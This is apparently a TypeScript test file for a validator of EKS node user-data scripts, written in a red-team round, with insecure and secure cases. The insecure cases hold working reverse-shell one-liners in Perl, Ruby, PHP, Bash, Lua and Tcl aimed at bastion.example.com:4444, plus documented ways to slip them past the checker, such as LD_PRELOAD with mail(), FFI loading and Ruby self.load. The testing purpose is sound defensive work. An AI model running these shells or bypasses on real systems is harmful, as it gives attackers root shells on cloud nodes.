// Red-team round 68 on EKS NODE user data (fresh eyes on round 67's node loader fixes: perlLiterals, rubyLiterals,
// phpDirective/dl/__DIR__, phpCommandListeners, TCL_SCRIPT_COMMANDS, tclSearched, lua package.loadlib, gawk AWKPATH).
// Probed: php include_path (set_include_path, ini_set, -d include_path=), stream-wrapper includes (file://,
// php://filter), command runners reached by name (call_user_func, array_map, variable functions), FFI::cdef of a
// written library, putenv LD_PRELOAD + mail(); command runners of the other languages root runs (perl system/backticks,
// ruby system/spawn, lua os.execute, tcl exec, gawk system); ruby self.load / Kernel&.load; perl q!! literals.
// Secure: the literal commands and loader idioms careful teams write (perl system list form, FindBin/../lib, tcl
// `set dir [file dirname [info script]]`, ruby/lua/php strings that mention load/include/require in prose).
// Misses (4 insecure, 6 secure). Insecure accepted: php FFI::cdef of a downloaded .so, php putenv LD_PRELOAD + mail(),
// ruby self.load, ruby Kernel&.load. Secure refused: perl `use lib $FindBin::Bin . '/lib'` (known open gap), tcl
// `set dir [file dirname [info script]]; source [file join $dir F]`, loader keywords inside string literals (ruby
// "load average", lua "failed to load", php "include path", perl warn "eval failed"). Refused as they should be:
// include_path edits, file:// and php://filter includes, php runners by name, perl/ruby/lua/tcl/gawk commands, q!!.
import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";

/** What a relay or a shared shell is refused as. */
const RELAY =
    /beyond loopback|does not read|forward|shell|another host|tunnel|relay|hands the node|X server|made at boot|cannot read|cannot compute|does not write/;
const PERL_SHELL = `use IO::Socket;$s=IO::Socket::INET->new("bastion.example.com:4444");open STDIN,"<&",$s;open STDOUT,">&",$s;exec "/bin/sh -i"`;
const RUBY_SHELL = `require "socket";c=TCPSocket.new("bastion.example.com",4444);exec "/bin/sh -i",in: c,out: c,err: c`;
const PHP_SHELL = `<?php $s=fsockopen("bastion.example.com",4444);proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$p);`;
const BASH_SHELL = "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1";
const LUA_SHELL = `local s=require("socket").tcp();s:connect("bastion.example.com",4444);while true do local l=s:receive();local f=io.popen(l);s:send(f:read("*a")) end`;
const TCL_SHELL = `set s [socket bastion.example.com 4444]; while 1 { puts $s [exec sh -c [gets $s]]; flush $s }`;
const written = (path: string, text: string) => [`cat > ${path} <<'EOF'`, text, "EOF"];
const SH = written("/opt/r.sh", BASH_SHELL);

const insecure: NodeCase[] = [
    devNodeCase("control: bash /opt/r.sh", devNodeScript("dev-c1-nodes", [...SH, "bash /opt/r.sh"]), RELAY),
    devNodeCase(
        "php set_include_path + include by name",
        devNodeScript("dev-h1-nodes", [
            "mkdir -p /opt/inc",
            ...written("/opt/inc/helper.php", PHP_SHELL),
            `php -r 'set_include_path("/opt/inc"); include "helper.php";'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php ini_set include_path + require_once",
        devNodeScript("dev-h2-nodes", [
            "mkdir -p /opt/inc",
            ...written("/opt/inc/helper.php", PHP_SHELL),
            `php -r 'ini_set("include_path", "/opt/inc"); require_once "helper.php";'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php -d include_path= + include",
        devNodeScript("dev-h3-nodes", [
            "mkdir -p /opt/inc",
            ...written("/opt/inc/helper.php", PHP_SHELL),
            `php -d include_path=/opt/inc -r 'include "helper.php";'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php include file:// wrapper",
        devNodeScript("dev-h4-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'include "file:///opt/r.php";'`]),
        RELAY,
    ),
    devNodeCase(
        "php include php://filter wrapper",
        devNodeScript("dev-h5-nodes", [
            ...written("/opt/r.php", PHP_SHELL),
            `php -r 'include "php://filter/resource=/opt/r.php";'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php call_user_func system",
        devNodeScript("dev-h6-nodes", [...SH, `php -r 'call_user_func("system", "bash /opt/r.sh");'`]),
        RELAY,
    ),
    devNodeCase(
        "php array_map passthru",
        devNodeScript("dev-h7-nodes", [...SH, `php -r 'array_map("passthru", ["bash /opt/r.sh"]);'`]),
        RELAY,
    ),
    devNodeCase(
        "php variable function",
        devNodeScript("dev-h8-nodes", [...SH, `php -r '$f = "shell_exec"; $f("bash /opt/r.sh");'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 69): PHP manual FFI::cdef ("lib: The name of a shared library file, to be loaded and linked"; ffi.enable
    // default "preload" allows the FFI API in the CLI SAPI): `php -r 'FFI::cdef("int run(void);",
    // "/opt/x.so")->run()'` runs the downloaded native /opt/x.so as root; phpLoads reads include/require/eval/dl only
    // (as lua package.loadlib, round 68, treat FFI::cdef's literal lib / FFI::load's header FFI_LIB as native code;
    // computed = unread). Accepted (got []).
    devNodeCase(
        "php FFI::cdef downloaded library",
        devNodeScript("dev-h9-nodes", [
            "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so",
            `php -r '$f = FFI::cdef("int run(void);", "/opt/x.so"); $f->run();'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 69): PHP manual mail() (on Unix runs sendmail_path through the shell, inheriting putenv's environment) +
    // ld.so(8) LD_PRELOAD ("ELF shared objects to be loaded before all others"): `putenv("LD_PRELOAD=/opt/x.so");
    // mail(...)` loads the downloaded /opt/x.so into the root sendmail child; phpCommandListeners knows
    // exec/passthru/system/shell_exec/popen/proc_open/pcntl_exec/backticks only. Treat
    // mail()/mb_send_mail()/error_log(type 1) as running a command, and putenv of LD_PRELOAD/LD_LIBRARY_PATH (or any
    // loader variable) as unread. Accepted (got []).
    devNodeCase(
        "php putenv LD_PRELOAD + mail",
        devNodeScript("dev-h10-nodes", [
            "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so",
            `php -r 'putenv("LD_PRELOAD=/opt/x.so"); mail("a@example.com", "s", "m");'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl system bash written",
        devNodeScript("dev-p1-nodes", [...SH, `perl -e 'system("bash /opt/r.sh")'`]),
        RELAY,
    ),
    devNodeCase(
        "perl backticks bash written",
        devNodeScript("dev-p2-nodes", [...SH, "perl -e 'print `bash /opt/r.sh`'"]),
        RELAY,
    ),
    devNodeCase(
        "perl do q!! written",
        devNodeScript("dev-p3-nodes", [...written("/opt/r.pl", PERL_SHELL), `perl -e 'do q!/opt/r.pl!'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby system bash written",
        devNodeScript("dev-r1-nodes", [...SH, `ruby -e 'system("bash /opt/r.sh")'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby spawn bash written",
        devNodeScript("dev-r2-nodes", [...SH, `ruby -e 'Process.wait(spawn("bash", "/opt/r.sh"))'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 69): Ruby 2.7 NEWS / Feature #16123 ("Allow calling a private method with `self.`"): `self.load("/opt/r.rb")`
    // is Kernel#load of the written TCPSocket + exec /bin/sh reverse shell; rubyLoads' matcher `(?<![\\w$@:.])` skips
    // a load preceded by `.` (only Kernel./Kernel:: receivers are read). Read `self.`/`Object.`/`Kernel&.` receivers
    // (or any `.load(`/`.require(` with a literal path, fail closed). Accepted (got []).
    devNodeCase(
        "ruby self.load",
        devNodeScript("dev-r3-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'self.load("/opt/r.rb")'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 69): Ruby docs, safe navigation `&.` (calls the method unless the receiver is nil) + Kernel.load (module
    // function, public on Kernel): `Kernel&.load("/opt/r.rb")` runs the written reverse shell; rubyLoads' `kernel`
    // prefix matches only `Kernel.`/`Kernel::`, and the `.` before load then hides it. Accepted (got []).
    devNodeCase(
        "ruby Kernel&.load",
        devNodeScript("dev-r4-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'Kernel&.load("/opt/r.rb")'`]),
        RELAY,
    ),
    devNodeCase(
        "lua os.execute bash written",
        devNodeScript("dev-l1-nodes", [...SH, `lua -e 'os.execute("bash /opt/r.sh")'`]),
        RELAY,
    ),
    // Round 69 (lead, named by fix69-node): LuaJIT "FFI Library" (`ffi.cdef` declares, `ffi.C.<name>` calls any C
    // function of the process, libc's system among them): require("ffi") was a known module, so this ran unjudged.
    devNodeCase(
        "luajit ffi.C.system of a written script",
        devNodeScript("dev-l2-nodes", [
            ...SH,
            `luajit -e 'local ffi = require("ffi"); ffi.cdef[[int system(const char *c);]]; ffi.C.system("bash /opt/r.sh")'`,
        ]),
        /ffi/,
    ),
    devNodeCase(
        "tcl exec bash written",
        devNodeScript("dev-t1-nodes", [...SH, `tclsh <<< 'exec bash /opt/r.sh'`]),
        RELAY,
    ),
    devNodeCase(
        "gawk system bash written",
        devNodeScript("dev-a1-nodes", [...SH, `gawk 'BEGIN { system("bash /opt/r.sh") }'`]),
        RELAY,
    ),
    // Round 69 neighbours (fix69-node): the insecure twins of the string-literal, FindBin, `set dir` and FFI/putenv
    // fixes. A loader inside an interpolation or given a literal to eval is still read; FindBin's variable changed
    // before use, or `$dir` after code that may change it, is computed; FFI without a library calls libc.
    devNodeCase(
        "ruby load inside a string interpolation",
        devNodeScript("dev-n1-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            `ruby -e 'puts "x #{load "/opt/r.rb"} y"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby eval of a literal that loads",
        devNodeScript("dev-n2-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'eval("load %q(/opt/r.rb)")'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby load after a regexp holding a quote",
        devNodeScript("dev-n3-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'x = /"/; load("/opt/r.rb") #"'`]),
        RELAY,
    ),
    devNodeCase(
        "lua load of a literal that dofiles",
        devNodeScript("dev-n4-nodes", [
            ...written("/opt/r.lua", LUA_SHELL),
            `lua -e 'load("dofile([[/opt/r.lua]])")()'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php eval of a literal that includes",
        devNodeScript("dev-n5-nodes", [
            ...written("/opt/r.php", PHP_SHELL),
            `php -r 'echo "ok\\n"; eval("include \\"/opt/r.php\\";");'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php include after a heredoc",
        devNodeScript("dev-n6-nodes", [
            ...written("/opt/r.php", PHP_SHELL),
            "cat > /opt/run.php <<'EOF'",
            "<?php",
            "echo <<<TXT",
            'say "hi',
            "TXT;",
            'include "/opt/r.php"; echo "";',
            "EOF",
            "php /opt/run.php",
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl do inside @{[ ]} interpolation",
        devNodeScript("dev-n7-nodes", [
            ...written("/opt/r.pl", PERL_SHELL),
            `perl -e 'print "loaded @{[ do q(/opt/r.pl) ]}\n"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl use lib $FindBin::Bin . '/lib' of a written shell module",
        devNodeScript("dev-n8-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; ${PERL_SHELL}; 1;`),
            ...written("/opt/app/run.pl", `use FindBin; use lib $FindBin::Bin . '/lib'; use Helper;`),
            "perl /opt/app/run.pl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl $FindBin::Bin reassigned before use lib",
        devNodeScript("dev-n9-nodes", [
            "mkdir -p /opt/app/lib /opt/evil/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/evil/lib/Helper.pm", `package Helper; ${PERL_SHELL}; 1;`),
            ...written(
                "/opt/app/run.pl",
                `use FindBin; BEGIN { $FindBin::Bin = "/opt/evil" } use lib $FindBin::Bin . '/lib'; use Helper;`,
            ),
            "perl /opt/app/run.pl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl set dir [info script] then source of a written shell",
        devNodeScript("dev-n10-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.tcl", TCL_SHELL),
            ...written("/opt/app/main.tcl", "set dir [file dirname [info script]]\nsource [file join $dir lib.tcl]"),
            "tclsh /opt/app/main.tcl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl $dir after a sourced file that changes it",
        devNodeScript("dev-n11-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/a.tcl", "set ::dir /opt/evil"),
            ...written("/opt/app/b.tcl", "proc hi {} { puts hi }"),
            ...written("/opt/evil/b.tcl", TCL_SHELL),
            ...written(
                "/opt/app/main.tcl",
                "set dir [file dirname [info script]]\nsource [file join $dir a.tcl]\nsource [file join $dir b.tcl]",
            ),
            "tclsh /opt/app/main.tcl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl set dir twice",
        devNodeScript("dev-n12-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"),
            ...written("/opt/evil/lib.tcl", TCL_SHELL),
            ...written(
                "/opt/app/main.tcl",
                "set dir [file dirname [info script]]\nset dir /opt/evil\nsource [file join $dir lib.tcl]",
            ),
            "tclsh /opt/app/main.tcl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "php FFI::cdef without a library calls libc system",
        devNodeScript("dev-n13-nodes", [
            ...SH,
            `php -r 'FFI::cdef("int system(const char *c);")->system("bash /opt/r.sh");'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php FFI by name through call_user_func",
        devNodeScript("dev-n14-nodes", [
            "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so",
            `php -r 'call_user_func("ffi::cdef", "int run(void);", "/opt/x.so")->run();'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php -d sendmail_path of a written shell + mail",
        devNodeScript("dev-n15-nodes", [
            ...SH,
            `php -d sendmail_path="bash /opt/r.sh" -r 'mail("a@example.com", "s", "m");'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php putenv BASH_ENV + exec",
        devNodeScript("dev-n16-nodes", [...SH, `php -r 'putenv("BASH_ENV=/opt/r.sh"); exec("bash -c true");'`]),
        RELAY,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "php exec of a literal harmless command",
        devNodeScript("dev-s1-nodes", [`php -r 'exec("systemctl restart php-fpm");'`]),
    ),
    devNodeCase(
        "perl system list form harmless",
        devNodeScript("dev-s2-nodes", [`perl -e 'system("systemctl", "restart", "nginx") == 0 or die'`]),
    ),
    devNodeCase(
        "perl FindBin ../lib harmless",
        devNodeScript("dev-s3-nodes", [
            "mkdir -p /opt/app/bin /opt/app/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/app/bin/run.pl", `use FindBin; use lib "$FindBin::Bin/../lib"; use Helper; Helper::hi();`),
            "perl /opt/app/bin/run.pl > /tmp/h",
        ]),
    ),
    // Was a MISS (fixed in round 69): perldoc FindBin (SYNOPSIS spells `use lib "$Bin/../lib"`, and the bareword concatenation `use lib
    // $FindBin::Bin . '/lib'` is the other common form; perlop `.` concatenates): a harmless written
    // /opt/app/lib/Helper.pm beside the script; perlLiterals rewrites $FindBin::Bin only inside double quotes, so the
    // `use lib` list is computed and every `use` (FindBin, Helper) is refused as "code user data does not...". Known
    // open gap named by the round-68 fixers. Refused (secure).
    devNodeCase(
        "perl use lib $FindBin::Bin . '/lib' (bareword concat)",
        devNodeScript("dev-s4-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/app/run.pl", `use FindBin; use lib $FindBin::Bin . '/lib'; use Helper; Helper::hi();`),
            "perl /opt/app/run.pl > /tmp/h",
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 69): Tcl info(n) `info script` + file(n) dirname/join: `set dir [file dirname [info script]]; source [file
    // join $dir lib.tcl]` is the most common Tcl idiom (pkgIndex.tcl scripts get $dir the same way) for a sibling
    // file; the loader only recognises the inline `[file join [file dirname [info script]] X]` form, so `$dir` is a
    // name the pack cannot compute and the harmless /opt/app/lib.tcl load is refused. Follow simple `set VAR [file
    // dirname [info script]]` assignments. Refused (secure).
    devNodeCase(
        "tcl set dir [file dirname [info script]]; source",
        devNodeScript("dev-s5-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"),
            ...written(
                "/opt/app/main.tcl",
                "set dir [file dirname [info script]]\nsource [file join $dir lib.tcl]\nhi",
            ),
            "tclsh /opt/app/main.tcl > /tmp/h",
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 69): Ruby syntax: text inside a string literal is data, not a call: `puts "load average: " +
    // File.read("/proc/loadavg")` loads nothing; rubyLoads scans raw text, matches `load` after the `"` and reads
    // `average: ...` as a computed path, refusing it as a shell handed out. Blank string literals (as python's scan
    // does) before matching loaders. Refused (secure).
    devNodeCase(
        "ruby string mentioning load average",
        devNodeScript("dev-s6-nodes", [`ruby -e 'puts "load average: " + File.read("/proc/loadavg")' > /tmp/l`]),
        /./,
    ),
    // Was a MISS (fixed in round 69): Lua 5.4 manual §3.1 (a short literal string is data): `print("failed to load config")` calls no load; the
    // lua CODE_LOADERS code matcher `\b(dofile|loadfile|require|loadstring|load)\b` runs on raw text and reads
    // `config"` as a computed load, refusing it. Blank string literals first. Refused (secure).
    devNodeCase(
        "lua string mentioning load",
        devNodeScript("dev-s7-nodes", [`lua -e 'print("failed to load config")' > /tmp/l`]),
        /./,
    ),
    // Was a MISS (fixed in round 69): PHP manual "Strings" (a double-quoted string is data): `echo "include path ok\n";` includes nothing;
    // phpLoads' `(include|require)(_once)?\b` runs on raw text and takes `path ok...` as a computed include, refusing
    // it. Blank string literals first (keeping those that are the include's own argument). Refused (secure).
    devNodeCase(
        "php string mentioning include",
        devNodeScript("dev-s8-nodes", [`php -r 'echo "include path ok\\n";' > /tmp/l`]),
        /./,
    ),
    devNodeCase(
        "ruby system harmless literal",
        devNodeScript("dev-s9-nodes", [`ruby -e 'system("systemctl", "restart", "nginx") or abort'`]),
    ),
    devNodeCase(
        "php require_once __DIR__ vendor sibling harmless",
        devNodeScript("dev-s10-nodes", [
            "mkdir -p /opt/app/src",
            ...written("/opt/app/src/Util.php", `<?php function hi() { file_put_contents("/tmp/h", "hi"); }`),
            ...written("/opt/app/run.php", `<?php\nrequire_once __DIR__ . '/src/Util.php';\nhi();`),
            "php /opt/app/run.php",
        ]),
    ),
    devNodeCase(
        "lua package.path sibling harmless",
        devNodeScript("dev-s11-nodes", [
            "mkdir -p /opt/app",
            ...written(
                "/opt/app/helper.lua",
                `local M = {} function M.hi() io.open("/tmp/h", "w"):write("hi") end return M`,
            ),
            `lua -e 'package.path = "/opt/app/?.lua;" .. package.path; require("helper").hi()'`,
        ]),
    ),
    // Was a MISS (fixed in round 69): perlfunc eval BLOCK / warn: `eval { open ... } or warn "eval failed: $@"` is the standard Perl
    // error-handling idiom; the second `eval` is inside a string, but perlLoads matches `(do|require|use|no|eval)\b`
    // on raw text (only `use`/`no` need a statement start) and takes `failed: $@"` as a computed eval, refusing it.
    // Blank string literals (outside the load's own argument) first. Refused (secure).
    devNodeCase(
        "perl warn string mentioning eval",
        devNodeScript("dev-s12-nodes", [
            `perl -e 'eval { open my $f, "<", "/etc/os-release" or die; 1 } or warn "eval failed: $@"' > /tmp/l`,
        ]),
        /./,
    ),
    // Round 69 neighbours (fix69-node): the secure twins. Prose in strings (single-quoted, long brackets), an
    // interpolation with no loader, `$FindBin::Bin . '/../lib'`, `set here ...; source $here/...`, a harmless putenv.
    devNodeCase(
        "ruby strings and a comment mentioning require, an interpolation without one",
        devNodeScript("dev-t1-nodes", [
            `ruby -e 'puts "require ok: #{File.basename("/etc/hosts")}"; puts "load done" # "require"' > /tmp/l`,
        ]),
    ),
    devNodeCase(
        "lua long-bracket string mentioning require",
        devNodeScript("dev-t2-nodes", [`lua -e 'print([[could not require module]]) -- "load"' > /tmp/l`]),
    ),
    devNodeCase(
        "php comment and single-quoted string mentioning require",
        devNodeScript("dev-t3-nodes", [
            `php -r 'echo "x {$argc} require " . '"'"'include done'"'"'; // "include"' > /tmp/l`,
        ]),
    ),
    devNodeCase(
        "perl die string mentioning require with an interpolated variable",
        devNodeScript("dev-t4-nodes", [`perl -e 'print "require of $0 ok\\n" or die "do not: $!"' > /tmp/l`]),
    ),
    devNodeCase(
        "perl use lib $FindBin::Bin . '/../lib' harmless",
        devNodeScript("dev-t5-nodes", [
            "mkdir -p /opt/app/bin /opt/app/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written(
                "/opt/app/bin/run.pl",
                `use FindBin qw($Bin); use lib $Bin . '/../lib'; use Helper; Helper::hi();`,
            ),
            "perl /opt/app/bin/run.pl > /tmp/h",
        ]),
    ),
    devNodeCase(
        "tcl set here [file dirname [info script]]; source $here/lib.tcl harmless",
        devNodeScript("dev-t6-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"),
            ...written("/opt/app/main.tcl", "set here [file dirname [info script]]; source $here/lib.tcl; hi"),
            "tclsh /opt/app/main.tcl > /tmp/h",
        ]),
    ),
    devNodeCase(
        "php putenv TZ harmless",
        devNodeScript("dev-t7-nodes", [`php -r 'putenv("TZ=UTC"); echo date("c");' > /tmp/d`]),
    ),
];

describeNodeCases("red team 68: node user data (fresh eyes on round 67)", insecure, secure);
